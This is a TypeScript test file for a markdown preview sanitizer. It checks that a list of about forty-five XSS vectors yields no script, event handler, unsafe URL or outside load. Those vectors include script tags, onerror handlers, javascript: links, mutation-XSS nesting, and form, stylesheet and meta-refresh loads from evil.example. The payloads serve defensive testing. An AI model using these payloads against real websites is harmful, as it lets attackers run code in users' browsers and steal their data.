import { expect, it } from 'vitest';
import { markupOf } from './markdown-blocks.ts';
import type { PreviewNode } from './preview-tree.ts';
import { safeTree } from './safe-tree.ts';
import { attributesIn, elementsIn, renderText, textIn } from './testing/trees.ts';

/** What may be an element in the preview, written down once more: a new one must be thought about. */
const HARMLESS =
  /^(?:a|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|img|input|ins|kbd|li|mark|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|ul|var)$/;

const VECTORS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<javascript&colon;alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](x)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<form action=https://evil.example><button>Send</button><input name=x></form>',
  '<input autofocus onfocus=alert(1)><input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<b/onmouseover=alert(1)>x</b>',
  '"><img src=x onerror=alert(1)>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"><script>]\n\n[^"><script>]: x',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '- [ ] <script>alert(1)</script>',
  '<div class="cm-content preview-pane" popover id=app>x</div>',
];

it.each(VECTORS)('nothing of %s runs, loads or is sent', async (vector) => {
  const nodes = (await renderText(vector)).flat();
  expect(elementsIn(nodes).filter(({ tag }) => !HARMLESS.test(tag))).toEqual([]);
  for (const [name, value] of attributesIn(nodes)) {
    expect(name).not.toMatch(/^on|style|^srcset$|^action$|^form|^popover|^name$/);
    if (name === 'href') expect(value).toMatch(/^(?:#|https?:|mailto:|[^:]*$)/);
    if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp)[;,]/);
    if (name === 'id') expect(value).toMatch(/^user-content-/);
    if (name === 'class') expect(value).not.toMatch(/cm-|preview-pane/);
  }
});

function only(markdown: string): PreviewNode[] {
  return markupOf(markdown).flatMap(({ html }) => safeTree(html));
}

it('images from elsewhere are links with their description; those in the text itself are shown', () => {
  const [link] = elementsIn(only('![A loom](https://example.org/loom.png)')).filter(({ tag }) => tag === 'a');
  expect(link).toMatchObject({ attributes: { href: 'https://example.org/loom.png' }, children: ['A loom'] });
  expect(textIn(only('![](https://example.org/loom.png)'))).toBe('https://example.org/loom.png');
  expect(elementsIn(only('[![built](https://a.example/b)](https://c.example)')).map(({ tag }) => tag)).toEqual([
    'p',
    'a',
    'span',
  ]);
  const data = 'data:image/png;base64,iVBORw0KGgo=';
  expect(attributesIn(only(`![dot](${data})`))).toContainEqual(['src', data]);
});

it('links leave this page in a tab that knows nothing of it; names of places stay here', () => {
  const links = elementsIn(only('# Plan\n\n[away](https://example.org) [here](#plan)')).filter(
    ({ tag }) => tag === 'a',
  );
  expect(links.map(({ attributes }) => attributes)).toEqual([
    { href: 'https://example.org', target: '_blank', rel: 'noopener noreferrer' },
    { href: '#plan' },
  ]);
});

it('every block runs as its first letter does, a list as its first item', () => {
  const directions = elementsIn(only('שלום, world\n\n- פריט\n- item\n\n123'))
    .filter(({ attributes }) => attributes['dir'] !== undefined)
    .map(({ tag, attributes }) => `${tag} ${attributes['dir']}`);
  expect(directions).toEqual(['p rtl', 'ul rtl', 'li rtl', 'li ltr']);
});

it.each([
  ['elements in each other by the thousand', '<div>'.repeat(30_000)],
  ['a paragraph of 300,000 letters', 'x'.repeat(300_000)],
  ['a table of 30,000 cells', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(15_000)}`],
  ['unclosed bold that browsers repeat in every paragraph', `<div>${'<b><i>'.repeat(40)}${'<p>x'.repeat(500)}</div>`],
])('%s is not shown, and says so', (_, text) => {
  expect(attributesIn(only(text))).toContainEqual(['data-notice', 'long']);
});
